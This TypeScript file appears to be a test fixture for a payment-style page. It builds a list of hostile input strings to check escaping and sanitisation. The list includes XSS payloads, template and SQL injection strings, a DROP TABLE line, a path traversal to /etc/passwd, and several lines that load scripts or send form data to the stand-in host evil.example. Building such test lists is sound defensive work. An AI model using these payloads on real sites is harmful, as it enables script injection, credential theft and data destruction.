// Texts that would do something if they ever were anything but text: in HTML, in attributes, in scripts, in styles, in
// addresses, in templates. What runs sets `hit` on the window.

const RUN = 'window.hit=1';

const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<script type="application/json" id="facts">{"cancelUrl":"javascript:${RUN}"}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}"/>`,
  `<image href=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src=javascript:parent.hit=1></iframe>`,
  `<object data=javascript:${RUN}></object>`,
  `<embed src=javascript:${RUN}>`,
  `<a href="javascript:${RUN}" autofocus id=pay>x</a>`,
  `<form action=//evil.example><input name=email></form>`,
  `<input autofocus onfocus=${RUN}>`,
  `<button form=form formaction=//evil.example>Pay</button>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>*{display:none}</style>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<div id=form style=position:fixed;inset:0>`,
  `<plaintext>`,
];

/** What a text may have to get out of first. */
const BREAKS: readonly string[] = ['', '">', `'>`, '</script>', '</title></textarea></style>', '-->', ']]>'];

const PLAIN: readonly string[] = [
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  '&lt;script&gt;',
  '&#60;img src=x onerror=hit&#61;1&#62;',
  '&amp;&quot;&apos;',
  '%3Cscript%3Ehit=1%3C/script%3E',
  '\\u003cscript\\u003e',
  '\\x3cscript\\x3e',
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `red;background:url(//evil.example/x)`,
  'expression(hit=1)',
  '} body { display: none',
  "'-alert(1)-'",
  `"};${RUN};//`,
  '\u2028window.hit=1\u2029',
  `\${${RUN}}`,
  '{{constructor.constructor("hit=1")()}}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{amount} {merchant} {count}',
  '$& $1 $` $$',
  '__proto__',
  'constructor',
  "' OR 1=1--",
  "'; DROP TABLE sessions;--",
  '../../../../etc/passwd',
  '//evil.example',
  '\u202Egnp.exe',
  '\u200B\uFEFF\u00AD',
  'a\u0301\u0300\u0323'.repeat(20),
  '\uFF1Cscript\uFF1E',
  '💥'.repeat(30),
  'ﷺ'.repeat(30),
  'W'.repeat(199),
];

/** Well over two hundred. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...BREAKS.flatMap((before) => MARKUP.map((text) => before + text)),
  ...PLAIN,
];
